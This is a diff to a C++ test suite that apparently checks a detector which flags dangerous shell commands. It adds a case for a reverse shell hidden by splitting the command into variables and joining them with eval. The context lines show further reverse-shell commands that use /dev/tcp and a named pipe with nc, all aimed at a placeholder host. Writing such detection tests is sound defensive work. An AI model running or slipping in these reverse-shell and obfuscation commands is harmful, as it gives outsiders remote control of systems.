@@ -291,6 +291,11 @@ INSTANTIATE_TEST_SUITE_P(
              "defence-tampering"},
         Case{"ReverseShellThroughDevTcp",
              phase("/bin/bash -i >& /dev/tcp/relay.example.invalid/443 0>&1 &"), {}, "remote-shell"},
+        Case{"ReverseShellAssembledFromVariables",
+             phase("a='/bi';b='n/ba';c='sh -';d='c \"(/b';e='in/bash -i >& /d';f='ev/tcp/relay.ex';"
+                   "g='ample.invalid/443 0<&1 &)\"';eval \"$a$b$c$d$e$f$g\""),
+             {},
+             "remote-shell"},
         Case{"ReverseShellThroughANamedPipe",
              phase("mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc relay.example.invalid 443 > /tmp/f"),
              {},
